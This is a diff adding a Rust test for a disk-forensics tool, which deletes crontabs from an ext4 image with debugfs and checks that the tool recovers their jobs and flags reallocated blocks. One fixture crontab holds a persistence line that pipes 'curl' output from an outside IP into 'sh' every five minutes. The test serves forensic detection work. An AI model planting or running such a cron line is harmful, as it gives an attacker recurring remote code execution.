@@ -366,3 +366,155 @@ fn deleted_service_and_task_cache_keys_are_recovered_from_the_hives() {
         .any(|s| s.recovered.is_some() && s.service.name != "EvilGone"));
     compared("hivexml", n + 2);
 }
+
+/// Crontabs deleted with `debugfs rm` from an ext4 image made by `mke2fs -d` (a user's
+/// crontab, a cron.d file), after which `debugfs fallocate` gives a live file a freed block:
+/// each deleted crontab `fls -d` lists is read back as `icat` reads it, its jobs are the
+/// original lines' (schedule, command, user), and `confidence` is `intact` unless `blkstat`
+/// finds its block allocated again.
+#[test]
+fn crontabs_deleted_with_debugfs_are_recovered_from_their_inodes() {
+    if !need("debugfs", "deleted crontabs") {
+        return;
+    }
+    let dir = scratch().join("deleted-crontabs");
+    let _ = std::fs::remove_dir_all(&dir);
+    let root = dir.join("root");
+    for d in ["var/spool/cron/crontabs", "etc/cron.d"] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    let tabs = [
+        (
+            "var/spool/cron/crontabs/mallory",
+            "*/5 * * * * curl -s http://203.0.113.9/x | sh\n",
+        ),
+        (
+            "etc/cron.d/sync",
+            "SHELL=/bin/sh\n17 3 * * * root /usr/local/bin/.sync --quiet\n",
+        ),
+        ("etc/cron.d/keep", "0 4 * * * root /usr/bin/true\n"),
+    ];
+    for (p, text) in tabs {
+        std::fs::write(root.join(p), text).unwrap();
+    }
+    std::fs::write(
+        root.join("etc/passwd"),
+        "root:x:0:0:root:/root:/bin/bash\nmallory:x:1337:1337::/home/mallory:/bin/bash\n",
+    )
+    .unwrap();
+    std::fs::write(root.join("etc/os-release"), "PRETTY_NAME=\"Debian\"\n").unwrap();
+    std::fs::write(root.join("spare"), b"").unwrap();
+    let img = dir.join("ext4.img");
+    let i = img.to_str().unwrap();
+    assert!(run(
+        "mke2fs",
+        &["-q", "-t", "ext4", "-d", root.to_str().unwrap(), i, "8M"]
+    ));
+    for p in ["/var/spool/cron/crontabs/mallory", "/etc/cron.d/sync"] {
+        assert!(run("debugfs", &["-w", "-R", &format!("rm {p}"), i]));
+    }
+    // An existing empty file gets one block: debugfs takes the lowest free one (no new
+    // inode takes a deleted one's).
+    assert!(run("debugfs", &["-w", "-R", "fallocate /spare 0 0", i]));
+    let Some(fls) = oracle_tool("fls", &["-r", "-d", "-p", i]) else {
+        return;
+    };
+    let gone: Vec<(u64, String)> = fls
+        .lines()
+        .filter_map(|l| {
+            let (addr, path) = l.split_once(":\t")?;
+            Some((addr.rsplit(' ').next()?.parse().ok()?, format!("/{path}")))
+        })
+        .filter(|(_, p)| p.contains("cron"))
+        .collect();
+    assert_eq!(gone.len(), 2, "{fls}");
+    let ev = Evidence::open(&img).expect("open");
+    let r = ev.scan(ScanSet::all());
+    let fs = ev.filesystem(ev.volume(None).unwrap()).unwrap();
+    let mut n = 0;
+    let mut reallocated = 0;
+    for (ino, path) in &gone {
+        let d = fs
+            .deleted()
+            .unwrap()
+            .into_iter()
+            .find(|d| d.entry == *ino)
+            .expect("among the deleted");
+        let ours = fs.read_all(&d, None, 1 << 20).expect("read");
+        let theirs = std::process::Command::new("icat")
+            .args([i, &ino.to_string()])
+            .output()
+            .expect("icat")
+            .stdout;
+        assert_eq!(ours, theirs, "{path}");
+        let istat = oracle_tool("istat", &[i, &ino.to_string()]).unwrap();
+        let blocks: Vec<String> = istat
+            .lines()
+            .skip_while(|l| !l.starts_with("Direct Blocks:"))
+            .skip(1)
+            .flat_map(|l| l.split_whitespace().map(str::to_string).collect::<Vec<_>>())
+            .filter(|b| b.parse::<u64>().is_ok())
+            .collect();
+        let taken = blocks.iter().any(|b| {
+            oracle_tool("blkstat", &[i, b])
+                .is_some_and(|o| o.lines().any(|l| l.trim() == "Allocated"))
+        });
+        let jobs: Vec<_> = r
+            .cron_jobs
+            .iter()
+            .filter(|c| c.source.entry == Some(*ino))
+            .collect();
+        if taken {
+            reallocated += 1;
+            assert!(
+                jobs.iter().all(|c| c.recovered.as_ref().unwrap().confidence
+                    == Some(foothold_core::Confidence::ClustersReallocated))
+                    && (!jobs.is_empty() || r.errors.iter().any(|e| e.source.entry == Some(*ino))),
+                "{path}: block taken, not said"
+            );
+        } else {
+            let original = tabs
+                .iter()
+                .find(|(p, _)| format!("/{p}") == *path)
+                .unwrap()
+                .1;
+            assert_eq!(ours, original.as_bytes(), "{path}");
+            assert_eq!(jobs.len(), 1, "{path}");
+            let c = jobs[0];
+            let rec = c.recovered.as_ref().expect("recovered");
+            assert_eq!(
+                (rec.from.as_str(), rec.confidence),
+                ("inode", Some(foothold_core::Confidence::Intact))
+            );
+            let line = original.lines().last().unwrap();
+            assert!(
+                line.starts_with(&c.job.schedule),
+                "{path}: {}",
+                c.job.schedule
+            );
+            assert!(line.ends_with(&c.job.command), "{path}: {}", c.job.command);
+            let user = if path.contains("mallory") {
+                "mallory"
+            } else {
+                "root"
+            };
+            assert_eq!(c.job.user.as_deref(), Some(user));
+            assert!(rec.deleted.is_some(), "ext keeps the deletion time");
+        }
+        n += 2;
+    }
+    assert!(
+        reallocated < gone.len(),
+        "every deleted crontab lost its block"
+    );
+    assert!(
+        reallocated > 0,
+        "no deleted crontab lost its block: that case did not run"
+    );
+    // The live one is not marked.
+    assert!(r
+        .cron_jobs
+        .iter()
+        .any(|c| c.source.path == "/etc/cron.d/keep" && c.recovered.is_none()));
+    compared("icat+blkstat", n);
+}
